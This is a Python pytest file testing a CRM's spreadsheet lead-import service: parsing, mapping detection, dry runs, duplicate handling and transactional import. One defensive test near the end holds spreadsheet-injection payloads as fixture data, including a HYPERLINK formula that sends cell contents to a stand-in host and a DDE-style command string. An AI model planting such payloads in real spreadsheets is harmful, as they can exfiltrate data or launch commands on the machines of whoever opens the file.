"""Spreadsheet import service: parsing, mapping detection, the dry-run report, duplicates,
and an all-or-nothing import (on SQLite and PostgreSQL)."""

from __future__ import annotations

import io
from datetime import timedelta
from typing import Any

import openpyxl
import pytest
from sqlalchemy import select

from services.errors import NotFound, PermissionDenied, RuleViolation, ValidationError
from services.intake import imports
from services.intake.imports import Target
from services.sales.pipelines import rules_by_role
from storage.models import Lead, StageHistory
from storage.models.analytics import FunnelFact
from storage.models.imports import ImportJob, ImportStatus
from tests.factories import count, new_deal, new_lead, xlsx

T = Target


def csv_bytes(rows: list[list[Any]], sep: str = ";", encoding: str = "utf-8-sig") -> bytes:
    return "\n".join(sep.join(str(c) for c in row) for row in rows).encode(encoding)


HEADER = ["ФИО", "Телефон", "Email", "Компания", "Источник", "Сумма", "Комментарий"]
GOOD = [
    ["Иван Петров", "+7 916 100-00-01", "ivan@example.com", "", "Авито", "150 000", "3 окна"],
    ["Мария Смирнова", "89161000002", "", "ООО Ромашка", "", "", ""],
    ["Олег", "", "oleg@example.com", "", "Сайт", "1500,50", ""],
]
BROKEN = [
    ["", "+7 916 100-00-04", "", "", "", "", ""],  # row 5: no name
    ["Пётр", "12345", "", "", "", "", ""],  # row 6: bad phone
    ["Анна", "+7 916 100-00-07", "anna@", "", "", "", ""],  # row 7: bad email
    ["Сергей", "+7 916 100-00-08", "", "", "", "сто тысяч", ""],  # row 8: bad amount
    ["Елена", "", "", "", "", "", "позвонить"],  # row 9: no phone, no email
]


async def upload(uow_factory, actor, data: bytes, filename: str = "clients.csv"):
    async def read() -> bytes:
        return data

    async with uow_factory() as uow:
        return await imports.upload(uow, actor, filename, len(data), read)


async def dry_run(uow_factory, actor, job_id: int):
    async with uow_factory() as uow:
        return await imports.dry_run(uow, actor, job_id)


async def run(uow_factory, actor, job_id: int, **kwargs: Any):
    async with uow_factory() as uow:
        return await imports.run(uow, actor, job_id, **kwargs)


# --- parsing and mapping detection (pure) ---------------------------------------------------


@pytest.mark.parametrize(
    ("headers", "expected"),
    [
        (HEADER, [T.NAME, T.PHONE, T.EMAIL, T.COMPANY, T.SOURCE, T.AMOUNT, T.COMMENT]),
        (
            ["Name", "Phone", "E-mail", "Company", "Source", "Amount", "Notes"],
            [T.NAME, T.PHONE, T.EMAIL, T.COMPANY, T.SOURCE, T.AMOUNT, T.COMMENT],
        ),
        (
            ["№", "Имя клиента", "Телефон клиента", "Эл. почта", "Название компании", "Дата"],
            [T.SKIP, T.NAME, T.PHONE, T.EMAIL, T.COMPANY, T.SKIP],
        ),
        # Inflected forms, and a name column named after the contact.
        (["Контактное лицо", "Номер телефона", "Сумма сделки"], [T.NAME, T.PHONE, T.AMOUNT]),
        # One column per target: the exact name wins over a partial one, then the leftmost.
        (["Телефон 2", "Телефон", "Тел."], [T.SKIP, T.PHONE, T.SKIP]),
        (["Company name", "Contact name", "utm_source"], [T.COMPANY, T.NAME, T.SOURCE]),
        (["", "id", "?"], [T.SKIP, T.SKIP, T.SKIP]),
    ],
)
def test_detect_mapping_from_headers(headers, expected):
    assert imports.detect(headers) == expected


@pytest.mark.parametrize(
    ("sep", "encoding"),
    [(";", "utf-8-sig"), (",", "utf-8"), ("\t", "utf-16"), (";", "cp1251")],
)
def test_parse_csv_delimiters_and_encodings(sep, encoding):
    data = csv_bytes([["Имя", "Телефон"], ["Иван", "+79161000001"], ["", ""], ["Ёж", "8916"]], sep)
    data = data.decode("utf-8-sig").encode(encoding)
    sheet = imports.parse("csv", data)
    assert sheet.headers == ["Имя", "Телефон"]
    # Row numbers are those a spreadsheet shows; the empty row is skipped, not renumbered.
    assert sheet.rows == [[2, "Иван", "+79161000001"], [4, "Ёж", "8916"]]


def test_parse_xlsx_numbers_blank_rows_and_spacer_column():
    book = openpyxl.Workbook()
    sheet = book.active
    sheet["B2"], sheet["C2"], sheet["D2"] = "Имя", "Телефон", "Сумма"
    sheet["B3"], sheet["C3"], sheet["D3"] = "Иван", 79161000001, 1500.5
    sheet["B6"], sheet["C6"] = "Олег", 89161000002.0
    out = io.BytesIO()
    book.save(out)
    parsed = imports.parse("xlsx", out.getvalue())
    assert parsed.headers == ["Имя", "Телефон", "Сумма"]
    assert parsed.rows == [[3, "Иван", "79161000001", "1500.5"], [6, "Олег", "89161000002", ""]]


@pytest.mark.parametrize(
    ("kind", "data", "code"),
    [
        ("xlsx", b"not a zip at all", "unreadable"),
        ("csv", b"", "empty"),
        ("csv", "Имя;Телефон\n".encode(), "empty"),
    ],
)
def test_parse_refuses_unreadable_and_empty_files(kind, data, code):
    with pytest.raises(ValidationError) as err:
        imports.parse(kind, data)
    assert (err.value.field, err.value.code) == ("file", code)


def test_parse_refuses_too_many_rows(monkeypatch):
    monkeypatch.setattr(imports, "MAX_ROWS", 3)
    data = csv_bytes([["Имя"], *[[f"n{i}"] for i in range(4)]])
    with pytest.raises(ValidationError) as err:
        imports.parse("csv", data)
    assert err.value.code == "too_many_rows"


# --- upload -------------------------------------------------------------------------------


async def test_upload_keeps_the_rows_in_the_database_and_proposes_a_mapping(
    uow_factory, make_actor
):
    boss = await make_actor(roles=("leader",))
    view = await upload(uow_factory, boss, xlsx([HEADER, *GOOD]), "Клиенты.xlsx")
    assert view.status == ImportStatus.MAPPING and view.rows == 3
    assert [c.target for c in view.columns] == [
        T.NAME, T.PHONE, T.EMAIL, T.COMPANY, T.SOURCE, T.AMOUNT, T.COMMENT
    ]  # fmt: skip
    assert view.columns[1].sample == "+7 916 100-00-01"
    assert view.missing == ()
    async with uow_factory() as uow:  # a fresh session (another worker) sees it all
        job = await uow.repo.get(ImportJob, view.id)
        assert job is not None and job.actor_id == boss.id and job.filename == "Клиенты.xlsx"
        again = await imports.get(uow, boss, view.id)
    assert again == view


@pytest.mark.parametrize("roles", [("manager",), ("measurer",), ("head_measurer",)])
async def test_only_leaders_and_admins_may_upload(uow_factory, make_actor, db_snapshot, roles):
    someone = await make_actor(roles=roles)
    before = await db_snapshot()
    downloaded = []

    async def read() -> bytes:
        downloaded.append(1)
        return csv_bytes([HEADER, *GOOD])

    async with uow_factory() as uow:
        with pytest.raises(PermissionDenied):
            await imports.upload(uow, someone, "clients.csv", 100, read)
    assert downloaded == []  # refused before the download
    assert await db_snapshot() == before


async def test_wrong_file_type_is_refused_before_the_download(uow_factory, make_actor):
    admin = await make_actor(roles=("admin",))

    async def read() -> bytes:
        raise AssertionError("must not download")

    async with uow_factory() as uow:
        with pytest.raises(ValidationError) as err:
            await imports.upload(uow, admin, "report.pdf", 100, read)
    assert err.value.code == "format"
    async with uow_factory() as uow:
        with pytest.raises(ValidationError) as err:
            await imports.upload(uow, admin, "big.csv", imports.MAX_BYTES + 1, read)
    assert err.value.code == "too_large"


# --- mapping ------------------------------------------------------------------------------


async def test_a_target_moves_between_columns_and_required_ones_are_enforced(
    uow_factory, make_actor
):
    boss = await make_actor(roles=("leader",))
    view = await upload(uow_factory, boss, csv_bytes([["Клиент", "Контакт", "Тел"], GOOD[0][:3]]))
    assert [c.target for c in view.columns] == [T.NAME, T.SKIP, T.PHONE]
    async with uow_factory() as uow:
        view = await imports.set_target(uow, boss, view.id, 1, T.NAME)
    assert [c.target for c in view.columns] == [T.SKIP, T.NAME, T.PHONE]
    async with uow_factory() as uow:
        view = await imports.set_target(uow, boss, view.id, 2, T.SKIP)
    assert view.missing == (T.PHONE, T.EMAIL)
    with pytest.raises(RuleViolation) as err:
        await dry_run(uow_factory, boss, view.id)
    assert err.value.rule == "import_mapping"
    async with uow_factory() as uow:
        with pytest.raises(ValidationError):
            await imports.set_target(uow, boss, view.id, 3, T.NAME)
    with pytest.raises(ValidationError):
        imports.target_of(len(imports.TARGETS))


async def test_someone_elses_import_is_not_found(uow_factory, make_actor):
    boss = await make_actor(roles=("leader",))
    other = await make_actor(roles=("admin",), name="Other")
    view = await upload(uow_factory, boss, csv_bytes([HEADER, *GOOD]))
    for call in (
        lambda uow: imports.get(uow, other, view.id),
        lambda uow: imports.set_target(uow, other, view.id, 0, T.SKIP),
        lambda uow: imports.dry_run(uow, other, view.id),
        lambda uow: imports.run(uow, other, view.id),
        lambda uow: imports.cancel(uow, other, view.id),
        lambda uow: imports.get(uow, boss, 10**6),
    ):
        async with uow_factory() as uow:
            with pytest.raises(NotFound):
                await call(uow)


# --- dry run ------------------------------------------------------------------------------


async def test_dry_run_reports_broken_rows_and_duplicates_and_saves_no_lead(
    uow_factory, make_actor, db_snapshot
):
    boss = await make_actor(roles=("leader",))
    manager = await make_actor(roles=("manager",), name="Mgr")
    await new_deal(uow_factory, manager, phone="+79161000011")  # a client (contact + deal)
    await new_lead(uow_factory, manager, phone="+79161000012", email="Lead@Example.com")
    rows = [
        HEADER,
        *GOOD,  # rows 2-4
        *BROKEN,  # rows 5-9
        ["Клиент", "+7 916 100-00-11", "", "", "", "", ""],  # row 10: the contact's phone
        ["Лид", "", "lead@example.com", "", "", "", ""],  # row 11: an open lead's email
        ["Повтор", "8 916 100-00-01", "", "", "", "", ""],  # row 12: row 2's phone
        ["Новый", "+7 916 100-00-13", "", "", "", "", ""],  # row 13: fine
    ]
    view = await upload(uow_factory, boss, csv_bytes(rows))
    before = await db_snapshot()
    view = await dry_run(uow_factory, boss, view.id)
    report = view.report
    assert report is not None and view.status == ImportStatus.CHECKED
    assert (report.rows, report.to_import, report.invalid, report.duplicates) == (12, 4, 5, 3)
    assert [(i.row, i.field, i.code) for i in report.issues] == [
        (5, "name", "empty"),
        (6, "phone", "invalid"),
        (7, "email", "invalid"),
        (8, "amount", "not_a_number"),
        (9, "phone", "contact_required"),
    ]
    assert [(d.row, d.of_row) for d in report.dupes] == [(10, None), (11, None), (12, 2)]
    after = await db_snapshot()
    assert after.pop("import_jobs") != before.pop("import_jobs")  # only the job changed
    assert after == before


async def test_dry_run_lists_the_first_rows_and_counts_the_rest(
    uow_factory, make_actor, monkeypatch
):
    monkeypatch.setattr(imports, "REPORT_SAMPLE", 3)
    boss = await make_actor(roles=("admin",))
    rows = [["Имя", "Телефон"], *[[f"n{i}", "bad"] for i in range(7)], ["ok", "+79161000001"]]
    view = await dry_run(uow_factory, boss, (await upload(uow_factory, boss, csv_bytes(rows))).id)
    assert view.report is not None
    assert view.report.invalid == 7 and [i.row for i in view.report.issues] == [2, 3, 4]
    assert view.report.to_import == 1


# --- import -------------------------------------------------------------------------------


async def test_import_inserts_valid_non_duplicate_rows_with_history(uow_factory, make_actor, clock):
    boss = await make_actor(roles=("leader",))
    rows = [HEADER, *GOOD, *BROKEN, ["Повтор", "+79161000001", "", "", "", "", ""]]
    view = await upload(uow_factory, boss, xlsx(rows), "c.xlsx")
    await dry_run(uow_factory, boss, view.id)
    calls: list[tuple[int, int]] = []

    async def progress(done: int, total: int) -> None:
        calls.append((done, total))

    view = await run(uow_factory, boss, view.id, on_progress=progress, chunk_size=2)
    assert view.status == ImportStatus.DONE and view.result is not None
    assert (view.result.imported, view.result.invalid, view.result.duplicates) == (3, 5, 1)
    assert calls == [(0, 3), (2, 3), (3, 3)]
    async with uow_factory() as uow:
        leads = (await uow.session.scalars(select(Lead).order_by(Lead.id))).all()
        history = (await uow.session.scalars(select(StageHistory))).all()
        entry = (await rules_by_role(uow, "leads")).entry
    assert [(x.name, x.phone, x.email) for x in leads] == [
        ("Иван Петров", "+79161000001", "ivan@example.com"),
        ("Мария Смирнова", "+79161000002", None),
        ("Олег", None, "oleg@example.com"),
    ]
    ivan, maria, oleg = leads
    assert ivan.amount == 15_000_000 and ivan.need == "3 окна\nИсточник: Авито"
    assert maria.is_legal_entity and maria.company_name == "ООО Ромашка"
    assert oleg.amount == 150_050 and oleg.need == "Источник: Сайт"
    assert {x.source for x in leads} == {"import"} and {x.status for x in leads} == {"new"}
    assert {x.stage_id for x in leads} == {entry.id}
    assert {x.manager_id for x in leads} == {None}  # a leader's import stays unassigned
    assert {x.created_by_id for x in leads} == {boss.id}
    assert {x.created_at for x in leads} == {clock.now()}
    assert sorted((h.lead_id, h.from_stage_id, h.to_stage_id) for h in history) == [
        (x.id, None, entry.id) for x in leads
    ]
    assert await count(uow_factory, FunnelFact) == 3  # the analytics triggers saw them
    async with uow_factory() as uow:
        job = await uow.repo.get(ImportJob, view.id)
        assert job is not None
        blobs = await uow.session.execute(
            select(ImportJob.payload, ImportJob.checked).where(ImportJob.id == view.id)
        )
    assert tuple(blobs.one()) == (b"", None)  # the rows are dropped once imported
    with pytest.raises(RuleViolation) as err:
        await run(uow_factory, boss, view.id)
    assert err.value.rule == "import_done"
    assert await count(uow_factory, Lead) == 3


async def test_an_importer_who_is_a_manager_gets_the_leads(uow_factory, make_actor):
    boss = await make_actor(roles=("leader", "manager"))
    view = await upload(uow_factory, boss, csv_bytes([HEADER, *GOOD]))
    await dry_run(uow_factory, boss, view.id)
    await run(uow_factory, boss, view.id)
    async with uow_factory() as uow:
        managers = set(await uow.session.scalars(select(Lead.manager_id)))
    assert managers == {boss.id}


async def test_a_failure_mid_import_leaves_the_database_unchanged(
    uow_factory, make_actor, db_snapshot
):
    boss = await make_actor(roles=("leader",))
    view = await upload(uow_factory, boss, csv_bytes([HEADER, *GOOD]))
    await dry_run(uow_factory, boss, view.id)
    before = await db_snapshot()
    calls = []

    async def explode(done: int, total: int) -> None:
        calls.append(done)
        if done == 2:  # after the first chunk went into the database
            raise RuntimeError("disk on fire")

    with pytest.raises(RuntimeError):
        await run(uow_factory, boss, view.id, on_progress=explode, chunk_size=2)
    assert calls == [0, 2]
    assert await db_snapshot() == before  # no lead, no history, the job still "checked"
    view = await run(uow_factory, boss, view.id)  # and it can be run again
    assert view.result is not None and view.result.imported == 3


async def test_clients_added_after_the_dry_run_are_skipped_as_duplicates(uow_factory, make_actor):
    boss = await make_actor(roles=("leader",))
    manager = await make_actor(roles=("manager",), name="Mgr")
    view = await upload(uow_factory, boss, csv_bytes([HEADER, *GOOD]))
    await dry_run(uow_factory, boss, view.id)
    await new_lead(uow_factory, manager, phone="+79161000002")  # Мария, meanwhile
    view = await run(uow_factory, boss, view.id)
    assert view.result is not None
    assert (view.result.imported, view.result.duplicates, view.result.new_duplicates) == (2, 1, 1)
    assert await count(uow_factory, Lead) == 3


async def test_changing_the_mapping_needs_a_new_dry_run(uow_factory, make_actor):
    boss = await make_actor(roles=("leader",))
    view = await upload(uow_factory, boss, csv_bytes([HEADER, *GOOD]))
    await dry_run(uow_factory, boss, view.id)
    async with uow_factory() as uow:
        view = await imports.set_target(uow, boss, view.id, 6, T.SKIP)
    assert view.status == ImportStatus.MAPPING and view.report is None
    with pytest.raises(RuleViolation) as err:
        await run(uow_factory, boss, view.id)
    assert err.value.rule == "import_not_checked"
    await dry_run(uow_factory, boss, view.id)
    await run(uow_factory, boss, view.id)
    async with uow_factory() as uow:
        needs = set(await uow.session.scalars(select(Lead.need)))
    assert needs == {"Источник: Авито", None, "Источник: Сайт"}  # comments left out


async def test_cancel_and_expiry_drop_the_rows(uow_factory, make_actor, clock):
    boss = await make_actor(roles=("leader",))
    first = await upload(uow_factory, boss, csv_bytes([HEADER, *GOOD]))
    second = await upload(uow_factory, boss, csv_bytes([HEADER, *GOOD]))
    async with uow_factory() as uow:
        cancelled = await imports.cancel(uow, boss, second.id)
    assert cancelled.status == ImportStatus.CANCELLED
    with pytest.raises(RuleViolation):
        await dry_run(uow_factory, boss, second.id)
    clock.advance(imports.EXPIRE_AFTER + timedelta(minutes=1))
    await upload(uow_factory, boss, csv_bytes([HEADER, *GOOD]))  # sweeps abandoned uploads
    async with uow_factory() as uow:
        view = await imports.get(uow, boss, first.id)
        blob = await uow.session.scalar(select(ImportJob.payload).where(ImportJob.id == first.id))
    assert view.status == ImportStatus.EXPIRED and blob == b""
    with pytest.raises(RuleViolation) as err:
        await dry_run(uow_factory, boss, first.id)
    assert err.value.rule == "import_closed"


def test_a_quoted_header_with_commas_does_not_fool_the_delimiter():
    """csv.Sniffer reads the quoting: ';' here, although the first line has more commas."""
    data = '"Фамилия, имя, отчество";Телефон\n"Иванов, Иван";+79161000001\n'.encode()
    sheet = imports.parse("csv", data)
    assert sheet.headers == ["Фамилия, имя, отчество", "Телефон"]
    assert sheet.rows == [[2, "Иванов, Иван", "+79161000001"]]


@pytest.mark.parametrize("encoding", ["cp1251", "koi8-r", "utf-16-le"])
def test_legacy_encodings_are_detected(encoding):
    """Not UTF-8 and no BOM: charset-normalizer tells which (trying utf-8 then cp1251 could
    not read KOI8-R or UTF-16 without a BOM)."""
    rows = [["Имя", "Телефон", "Комментарий"]] + [
        [name, f"+7916100000{i}", "Перезвонить после обеда, просил скидку"]
        for i, name in enumerate(["Иван Петров", "Мария Сидорова", "Ёлкин Пётр"])
    ]
    data = csv_bytes(rows, ";").decode("utf-8-sig").encode(encoding)
    sheet = imports.parse("csv", data)
    assert sheet.headers == ["Имя", "Телефон", "Комментарий"]
    assert [r[1] for r in sheet.rows] == ["Иван Петров", "Мария Сидорова", "Ёлкин Пётр"]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
async def test_formula_looking_names_are_kept_as_text(uow_factory, make_actor, kind):
    """A name a spreadsheet would evaluate is imported as the text it is (the export then
    writes it as text: tests/unit/reports/test_export.py)."""
    boss = await make_actor(roles=("leader",))
    names = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "@SUM(1+9)", "+7 cmd|' /C calc'!A0"]
    rows = [["ФИО", "Телефон"], *([n, f"+7 916 200-00-0{i}"] for i, n in enumerate(names))]
    if kind == "csv":
        data = "\n".join(";".join(f'"{c.replace(chr(34), 2 * chr(34))}"' for c in r) for r in rows)
        view = await upload(uow_factory, boss, data.encode("utf-8-sig"), "c.csv")
    else:
        book = openpyxl.Workbook()
        for row in rows:
            book.active.append(row)
        for cell in book.active["A"]:
            cell.data_type = "s"  # text cells, as a spreadsheet stores a typed-in '=...
        out = io.BytesIO()
        book.save(out)
        view = await upload(uow_factory, boss, out.getvalue(), "c.xlsx")
    await dry_run(uow_factory, boss, view.id)
    done = await run(uow_factory, boss, view.id)
    assert done.result is not None and done.result.imported == 3
    async with uow_factory() as uow:
        stored = (await uow.session.scalars(select(Lead.name).order_by(Lead.id))).all()
    assert list(stored) == names


async def test_a_leaders_import_is_given_out_to_the_managers_on_duty(uow_factory, make_actor):
    """Issue 26: the rows go out by the distribution rule (round-robin here), passing over
    the manager on a day off: M1, M3, M1."""
    from services.team import distribution

    boss = await make_actor(roles=("leader",))
    m1, m2, m3 = [await make_actor(roles=("manager",), name=f"M{i}") for i in (1, 2, 3)]
    async with uow_factory() as uow:
        await distribution.set_absence(uow, boss, m2.id, distribution.today(uow))
    view = await upload(uow_factory, boss, csv_bytes([HEADER, *GOOD]))
    await dry_run(uow_factory, boss, view.id)
    await run(uow_factory, boss, view.id)
    async with uow_factory() as uow:
        owners = list(await uow.session.scalars(select(Lead.manager_id).order_by(Lead.id)))
    assert owners == [m1.id, m3.id, m1.id]
